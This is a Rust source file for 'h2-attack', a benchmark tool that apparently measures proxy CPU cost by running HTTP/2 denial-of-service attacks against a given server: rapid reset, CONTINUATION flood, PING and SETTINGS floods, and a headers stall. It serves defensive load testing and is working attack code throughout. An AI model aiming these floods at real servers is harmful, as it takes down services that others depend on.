//! `h2-attack`: one HTTP/2 attack on N connections for a fixed time, so that `make bench` can
//! measure the CPU each proxy spends on it. Built on the raw client of
//! `integration_tests::h2raw` (hand-made frames, the way an attacker writes them).
//!
//! ```text
//! h2-attack --target 127.0.0.1:8443 --sni localhost --kind rapid-reset --connections 4 --duration 10s
//! ```
//!
//! Kinds (each connection first exchanges SETTINGS with the server):
//! - `rapid-reset`: HEADERS (END_STREAM|END_HEADERS) then RST_STREAM(CANCEL) at once, on stream
//!   1, 3, 5, ... (CVE-2023-44487); replies are read and dropped.
//! - `continuation`: one HEADERS without END_HEADERS, then CONTINUATION frames of ~1 KiB of
//!   literal headers, never ending the block (the 2024 CONTINUATION flood).
//! - `ping-flood`: PING frames as fast as the socket takes them, never reading (CVE-2019-9512).
//! - `settings-flood`: empty SETTINGS frames the same way (CVE-2019-9515).
//! - `headers-stall`: one HEADERS without END_HEADERS, then nothing until the server gives up
//!   (GOAWAY or close; a RST_STREAM alone does not end the connection: it is counted).
//!
//! Each of the N connection slots reconnects when the server ends its connection (GOAWAY,
//! close, reset, or writes that stall: the server stopped reading), until the duration is over.
//! At the end one JSON line on stdout: kind, connections opened, frames sent, GOAWAYs by error
//! code, closes by the server, seconds, and how long connections lived before the server ended
//! them (`ended_after_ms`, `goaway_after_ms`, `closed_after_ms`: count, min, mean, max). The
//! floods do not read while they write, so for them these times are when the client read the
//! GOAWAY or the close, after its writes failed or stalled (or the attack ended), not when the
//! server sent it. `--verbose` prints each connection's outcome on stderr. Every wait is bounded
//! by the duration plus a last write and a short grace.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use clap::{Parser, ValueEnum};
use integration_tests::h2raw::{self, code, flag, kind as frame, setting, H2Conn, H2Writer};

/// After the writer ends (stall, error), how long the reader may still wait for a GOAWAY.
const GRACE: Duration = Duration::from_secs(1);
/// The same once the attack is over (only to see what is already on its way).
const END_GRACE: Duration = Duration::from_millis(200);
/// Pause before reconnecting after a failed connect.
const RECONNECT_PAUSE: Duration = Duration::from_millis(100);
/// At most this many connections per slot (besides the duration).
const MAX_CONNECTS_PER_SLOT: u64 = 1_000_000;
/// Value length of each CONTINUATION's header, so that a frame is ~1 KiB.
const CONTINUATION_VALUE_LEN: usize = 1000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Kind {
    RapidReset,
    Continuation,
    PingFlood,
    SettingsFlood,
    HeadersStall,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::RapidReset => "rapid-reset",
            Kind::Continuation => "continuation",
            Kind::PingFlood => "ping-flood",
            Kind::SettingsFlood => "settings-flood",
            Kind::HeadersStall => "headers-stall",
        }
    }

    /// Floods that never read while they write.
    fn never_reads(self) -> bool {
        matches!(self, Kind::PingFlood | Kind::SettingsFlood)
    }
}

#[derive(Debug, Parser)]
#[command(
    name = "h2-attack",
    about = "Run one HTTP/2 attack on N connections; one JSON line of results"
)]
struct Args {
    /// The server, e.g. 127.0.0.1:8443.
    #[arg(long)]
    target: SocketAddr,
    /// TLS server name (certificates are checked against certs/dev/ca.crt).
    #[arg(long, default_value = "localhost")]
    sni: String,
    /// HTTP/2 over plain TCP (prior knowledge) instead of TLS.
    #[arg(long)]
    plain: bool,
    #[arg(long, value_enum)]
    kind: Kind,
    /// Connections attacking at the same time.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u32).range(1..=100_000))]
    connections: u32,
    /// How long the attack lasts (10s, 500ms, 2m).
    #[arg(long, default_value = "10s", value_parser = h2raw::parse_duration)]
    duration: Duration,
    /// `:authority` of the requests (default: the SNI).
    #[arg(long)]
    authority: Option<String>,
    /// `:path` of the requests.
    #[arg(long, default_value = "/")]
    path: String,
    /// Frames (rapid reset: HEADERS+RST pairs) per write.
    #[arg(long, default_value_t = 16, value_parser = clap::value_parser!(u32).range(1..=4096))]
    batch: u32,
    /// A write that does not finish within this means the server stopped reading.
    #[arg(long, default_value = "2s", value_parser = h2raw::parse_duration)]
    write_timeout: Duration,
    /// Print each connection's outcome on stderr.
    #[arg(long)]
    verbose: bool,
    /// Runtime threads of the attacker (1 leaves the other cores to the server).
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u32).range(1..=64))]
    threads: u32,
}

/// Totals over every connection.
#[derive(Debug, Default)]
struct Totals {
    connections_opened: u64,
    connect_errors: u64,
    handshake_errors: u64,
    frames_sent: u64,
    bytes_sent: u64,
    goaways: BTreeMap<String, u64>,
    closes_by_server: u64,
    resets_by_server: u64,
    write_stalls: u64,
    received: BTreeMap<&'static str, u64>,
    rst_received: BTreeMap<String, u64>,
    /// Lifetimes (ms) of the connections the server ended (GOAWAY, close, stall), and when the
    /// first GOAWAY came and the close, on the connections that had them.
    ended_ms: Vec<u64>,
    goaway_ms: Vec<u64>,
    closed_ms: Vec<u64>,
    first_error: Option<String>,
}

impl Totals {
    fn error(&mut self, e: String) {
        self.first_error.get_or_insert(e);
    }
}

fn main() {
    let args = Args::parse();
    let rt = match tokio::runtime::Builder::new_multi_thread()
        .worker_threads(args.threads as usize)
        .enable_all()
        .build()
    {
        Ok(rt) => rt,
        Err(e) => {
            eprintln!("h2-attack: tokio runtime: {e}");
            std::process::exit(1);
        }
    };
    if !args.plain {
        if let Err(e) = h2raw::h2_tls_config() {
            eprintln!("h2-attack: TLS configuration: {e}");
            std::process::exit(1);
        }
    }
    let line = rt.block_on(run(Arc::new(args)));
    println!("{line}");
}

async fn run(args: Arc<Args>) -> serde_json::Value {
    let totals = Arc::new(Mutex::new(Totals::default()));
    let start = Instant::now();
    let deadline = start + args.duration;
    let mut slots = tokio::task::JoinSet::new();
    for i in 0..args.connections {
        let (args, totals) = (args.clone(), totals.clone());
        slots.spawn(slot(i, args, totals, deadline));
    }
    // Every slot ends by the deadline plus a last write and the grace; bound it anyway.
    let hard = deadline + args.write_timeout + GRACE + h2raw::CONNECT_TIMEOUT * 2;
    for _ in 0..args.connections {
        match tokio::time::timeout_at(hard.into(), slots.join_next()).await {
            Ok(Some(_)) => {}
            Ok(None) => break,
            Err(_) => {
                eprintln!("h2-attack: some connections did not stop in time; abandoning them");
                slots.abort_all();
                break;
            }
        }
    }
    let seconds = start.elapsed().as_secs_f64();
    let t = totals.lock().unwrap_or_else(|e| e.into_inner());
    serde_json::json!({
        "kind": args.kind.name(),
        "target": args.target.to_string(),
        "tls": !args.plain,
        "connections": args.connections,
        "seconds": (seconds * 1000.0).round() / 1000.0,
        "connections_opened": t.connections_opened,
        "connect_errors": t.connect_errors,
        "handshake_errors": t.handshake_errors,
        "frames_sent": t.frames_sent,
        "bytes_sent": t.bytes_sent,
        "goaways": t.goaways,
        "closes_by_server": t.closes_by_server,
        "resets_by_server": t.resets_by_server,
        "write_stalls": t.write_stalls,
        "frames_received": t.received,
        "rst_streams_received": t.rst_received,
        "ended_after_ms": spread(&t.ended_ms),
        "goaway_after_ms": spread(&t.goaway_ms),
        "closed_after_ms": spread(&t.closed_ms),
        "first_error": t.first_error,
    })
}

/// {count, min, mean, max} of some milliseconds; null when there are none.
fn spread(ms: &[u64]) -> serde_json::Value {
    if ms.is_empty() {
        return serde_json::Value::Null;
    }
    let n = ms.len() as u64;
    serde_json::json!({
        "count": n,
        "min": ms.iter().min(),
        "mean": ms.iter().sum::<u64>() / n,
        "max": ms.iter().max(),
    })
}

/// One connection slot: connect, attack until the server ends the connection, reconnect, until
/// the deadline.
async fn slot(index: u32, args: Arc<Args>, totals: Arc<Mutex<Totals>>, deadline: Instant) {
    let lock = || totals.lock().unwrap_or_else(|e| e.into_inner());
    for _ in 0..MAX_CONNECTS_PER_SLOT {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return;
        }
        let connect = async {
            if args.plain {
                H2Conn::connect_plain(args.target).await
            } else {
                H2Conn::connect_tls(args.target, &args.sni).await
            }
        };
        let mut conn = match tokio::time::timeout(left, connect).await {
            Err(_) => return,
            Ok(Err(e)) => {
                {
                    let mut t = lock();
                    t.connect_errors += 1;
                    t.error(format!("slot {index}: connect: {e}"));
                }
                tokio::time::sleep(RECONNECT_PAUSE.min(left)).await;
                continue;
            }
            Ok(Ok(c)) => c,
        };
        conn.set_write_timeout(args.write_timeout);
        lock().connections_opened += 1;
        let settings = [
            (setting::ENABLE_PUSH, 0),
            (setting::INITIAL_WINDOW_SIZE, 1 << 30),
        ];
        let left = deadline.saturating_duration_since(Instant::now());
        let handshake = conn.handshake(&settings, h2raw::CONNECT_TIMEOUT.min(left));
        let outcome = match handshake.await {
            // A handshake cut short by the end of the attack is no error.
            Err(e) if Instant::now() < deadline => {
                {
                    let mut t = lock();
                    t.handshake_errors += 1;
                    t.error(format!("slot {index}: handshake: {e}"));
                }
                conn.outcome()
            }
            Err(_) => conn.outcome(),
            Ok(_) => attack(conn, &args, deadline).await,
        };
        if args.verbose {
            eprintln!("h2-attack: slot {index}: {}", outcome.summary());
        }
        let mut t = lock();
        t.frames_sent += outcome.frames_sent;
        t.bytes_sent += outcome.bytes_sent;
        for (k, n) in &outcome.received {
            *t.received.entry(k).or_default() += n;
        }
        for (c, n) in &outcome.rst_received {
            *t.rst_received.entry(c.clone()).or_default() += n;
        }
        if let Some(g) = &outcome.goaway {
            *t.goaways.entry(g.code_name()).or_default() += 1;
        }
        match &outcome.closed {
            Some(c) if c.reset => t.resets_by_server += 1,
            Some(_) => t.closes_by_server += 1,
            None => {}
        }
        if outcome.stalled_after_frames.is_some() {
            t.write_stalls += 1;
        }
        let ended_by_server = outcome.ended() || outcome.stalled_after_frames.is_some();
        if ended_by_server {
            let at = [
                outcome.goaway_after,
                outcome.closed.as_ref().map(|c| c.after),
            ]
            .into_iter()
            .flatten()
            .min()
            .unwrap_or(outcome.elapsed);
            t.ended_ms.push(at.as_millis() as u64);
        }
        if let Some(at) = outcome.goaway_after {
            t.goaway_ms.push(at.as_millis() as u64);
        }
        if let Some(c) = &outcome.closed {
            t.closed_ms.push(c.after.as_millis() as u64);
        }
    }
}

/// Run the attack on one connection until the server ends it or the deadline; the outcome.
async fn attack(conn: H2Conn, args: &Args, deadline: Instant) -> h2raw::Outcome {
    let (mut rd, wr) = conn.into_split();
    if args.kind.never_reads() {
        // Write only; then look through what came back for a GOAWAY.
        let _wr = flood(wr, args.kind, args.batch, deadline).await;
        return rd.wait_close(grace(deadline)).await;
    }
    let mut writer = tokio::spawn(write_attack(
        wr,
        args.kind,
        request(args),
        args.batch,
        deadline,
    ));
    let left = deadline.saturating_duration_since(Instant::now());
    let mut outcome = tokio::select! {
        o = rd.wait_close_or_goaway(left) => o,
        _ = &mut writer => rd.wait_close_or_goaway(grace(deadline)).await,
    };
    if outcome.goaway.is_some() && outcome.closed.is_none() {
        // The attacker goes on writing (as one does) while waiting for the close.
        outcome = rd.wait_close(grace(deadline)).await;
    }
    writer.abort();
    outcome
}

/// How long to wait for a GOAWAY or a close once the attack on a connection stopped: a second,
/// or a moment when the attack is over.
fn grace(deadline: Instant) -> Duration {
    if Instant::now() < deadline {
        GRACE
    } else {
        END_GRACE
    }
}

/// The request block of rapid reset, continuation and headers-stall.
fn request(args: &Args) -> Vec<u8> {
    let scheme = if args.plain { "http" } else { "https" };
    let authority = args.authority.as_deref().unwrap_or(&args.sni);
    h2raw::request_block(
        "GET",
        scheme,
        &args.path,
        authority,
        &[("user-agent", "h2-attack"), ("accept", "*/*")],
    )
}

/// The attacks that write while the reader watches. Ends at the deadline or on a write error
/// or stall (the writer is returned so that the connection stays open until the caller drops
/// it).
async fn write_attack(
    mut wr: H2Writer,
    kind: Kind,
    block: Vec<u8>,
    batch: u32,
    deadline: Instant,
) -> H2Writer {
    let mut buf = Vec::new();
    match kind {
        Kind::RapidReset => {
            // Let the server send as much as it likes: replies never block it.
            if wr
                .send_window_update(0, h2raw::MAX_STREAM_ID - 65_535)
                .await
                .is_err()
            {
                return wr;
            }
            let mut sid: u32 = 1;
            // Bounded by the deadline and by the stream ids.
            while Instant::now() < deadline {
                buf.clear();
                let mut frames = 0;
                for _ in 0..batch {
                    if sid > h2raw::MAX_STREAM_ID {
                        break;
                    }
                    let flags = flag::END_STREAM | flag::END_HEADERS;
                    h2raw::push_frame(&mut buf, frame::HEADERS, flags, sid, &block);
                    buf.extend_from_slice(&h2raw::rst_stream_frame(sid, code::CANCEL));
                    frames += 2;
                    sid += 2;
                }
                if frames == 0 || wr.send_batch(&buf, frames).await.is_err() {
                    return wr;
                }
            }
        }
        Kind::Continuation => {
            if wr.send_headers_block(1, &block, true, false).await.is_err() {
                return wr;
            }
            let value = "a".repeat(CONTINUATION_VALUE_LEN);
            let mut n: u64 = 0;
            while Instant::now() < deadline {
                buf.clear();
                for _ in 0..batch {
                    let mut frag = Vec::with_capacity(CONTINUATION_VALUE_LEN + 32);
                    let name = format!("x-flood-{n:08}");
                    h2raw::hpack_literal(&mut frag, name.as_bytes(), value.as_bytes());
                    h2raw::push_frame(&mut buf, frame::CONTINUATION, 0, 1, &frag);
                    n += 1;
                }
                if wr.send_batch(&buf, u64::from(batch)).await.is_err() {
                    return wr;
                }
            }
        }
        Kind::HeadersStall => {
            if wr.send_headers_block(1, &block, true, false).await.is_ok() {
                tokio::time::sleep_until(deadline.into()).await;
            }
        }
        Kind::PingFlood | Kind::SettingsFlood => return flood(wr, kind, batch, deadline).await,
    }
    wr
}

/// PING or SETTINGS frames as fast as the socket takes them, never reading. Ends at the deadline
/// or when a write fails or stalls.
async fn flood(mut wr: H2Writer, kind: Kind, batch: u32, deadline: Instant) -> H2Writer {
    let mut buf = Vec::new();
    let mut n: u64 = 0;
    while Instant::now() < deadline {
        buf.clear();
        for _ in 0..batch {
            match kind {
                Kind::SettingsFlood => h2raw::push_frame(&mut buf, frame::SETTINGS, 0, 0, &[]),
                _ => h2raw::push_frame(&mut buf, frame::PING, 0, 0, &n.to_be_bytes()),
            }
            n += 1;
        }
        if wr.send_batch(&buf, u64::from(batch)).await.is_err() {
            break;
        }
    }
    wr
}
